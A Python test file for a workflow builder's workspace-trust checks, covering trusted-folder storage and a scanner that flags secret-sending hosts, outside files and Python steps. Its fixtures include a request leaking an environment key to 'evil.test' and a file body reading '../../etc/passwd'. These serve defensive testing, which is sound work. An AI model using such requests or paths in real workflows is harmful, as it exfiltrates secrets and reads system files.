"""Which workspaces are trusted, and what there is to trust in one."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from builder.model.connection import Connection
from builder.model.environment import Surroundings
from builder.model.workflow import Workflow
from builder.storage.trust import Concerns, TrustedFolders, concerns


def workflow(*steps: dict[str, Any]) -> Workflow:
    numbered = [{"number": index + 2, **step} for index, step in enumerate(steps)]
    plain = {"trigger": {"kind": "event", "number": 1}, "steps": numbered}
    return Workflow.model_validate(plain)


AROUND = Surroundings(
    "test",
    {"base": "https://api.test", "key": "s3cret-value"},
    frozenset({"key"}),
    connections={
        "Shop": Connection.model_validate(
            {"base_url": "https://shop.test/v1", "auth": {"kind": "bearer", "token": "{{env.key}}"}}
        )
    },
)


def test_a_decision_is_kept_by_the_canonical_path(tmp_path: Path) -> None:
    workspace = tmp_path / "workspace"
    workspace.mkdir()
    link = tmp_path / "link"
    link.symlink_to(workspace)
    known = TrustedFolders(tmp_path / "data" / "trusted.json")
    known.file.parent.mkdir()
    assert not known.holds(workspace)
    known.add(link)
    known.add(workspace)
    assert known.holds(workspace)
    assert known.holds(link)
    assert not known.holds(tmp_path)
    assert TrustedFolders(known.file).holds(workspace)


def test_a_damaged_file_trusts_nothing(tmp_path: Path) -> None:
    known = TrustedFolders(tmp_path / "trusted.json")
    for text in ("{", '{"a": 1}', "7"):
        known.file.write_text(text)
        assert not known.holds(tmp_path)
    known.add(tmp_path)
    assert known.holds(tmp_path)


def test_harmless_workflows_need_no_trust() -> None:
    plain = workflow(
        {"kind": "request", "url": "https://elsewhere.test/{{env.base}}"},
        {"kind": "function", "code": "function yourFunction() {}"},
        {"kind": "request", "url": "https://a.test", "body": {"kind": "file", "file": "in.bin"}},
    )
    assert concerns([plain], AROUND) == Concerns()
    assert not concerns([plain], AROUND)


def test_hosts_that_receive_secrets_are_named() -> None:
    header = {"key": "X-Key", "value": "{{env.key}}"}
    found = concerns(
        [
            workflow(
                {"kind": "request", "url": "{{env.base}}/a", "headers": [header]},
                {"kind": "request", "url": "https://evil.test?k={{env.key}}"},
                {"kind": "request", "url": "https://plain.test"},
                {"kind": "integration_request", "connection": "Shop", "url": "/orders"},
                {"kind": "request", "url": "https://off.test/{{env.key}}", "enabled": False},
            )
        ],
        AROUND,
    )
    assert found.hosts == ("api.test", "evil.test", "shop.test")


def test_files_outside_and_python_are_named_where_they_are_nested() -> None:
    inside = {"kind": "request", "number": 9, "url": "https://a.test"}
    secret_file = {**inside, "body": {"kind": "file", "file": "../../etc/passwd"}}
    rows = [{"key": "f", "type": "file", "value": "/home/me/key"}]
    parts = {
        "kind": "request",
        "url": "https://a.test",
        "body": {"kind": "multipart", "rows": rows},
    }
    python = {"kind": "function", "language": "python", "name": "Sums", "number": 5}
    found = concerns(
        [workflow({"kind": "conditional", "yes": [secret_file]}, parts), workflow(python)], AROUND
    )
    assert found.files == ("../../etc/passwd", "/home/me/key")
    assert found.functions == ("5 · Sums",)
